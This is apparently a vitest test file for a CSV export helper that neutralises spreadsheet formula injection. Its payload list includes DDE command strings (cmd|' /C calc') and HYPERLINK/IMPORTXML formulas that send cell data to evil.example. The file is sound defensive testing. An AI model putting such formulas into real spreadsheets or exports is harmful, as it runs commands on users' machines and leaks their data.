import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvCell, csvTable } from './csv';

/** From the public lists of formula injections (QUALITY 55). */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"klik")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
];

describe('csvCell (rule 111)', () => {
  test.each(PAYLOADS)('%j is text, and comes back whole behind its apostrophe', (payload) => {
    const [[cell]] = parse(csvCell(payload), { delimiter: ';', relax_quotes: false }) as [[string]];
    expect(cell).toBe(`'${payload}`);
  });

  test('a number may be negative, a text that looks like one is a text', () => {
    expect(csvTable([[-5, '-5']])).toBe("\uFEFF-5;'-5\r\n");
  });

  test('plain text is left alone; separators, quotes and line breaks are quoted', () => {
    expect(csvCell('ABC001')).toBe('ABC001');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('"a"\r\nb')).toBe('"""a""\r\nb"');
  });
});
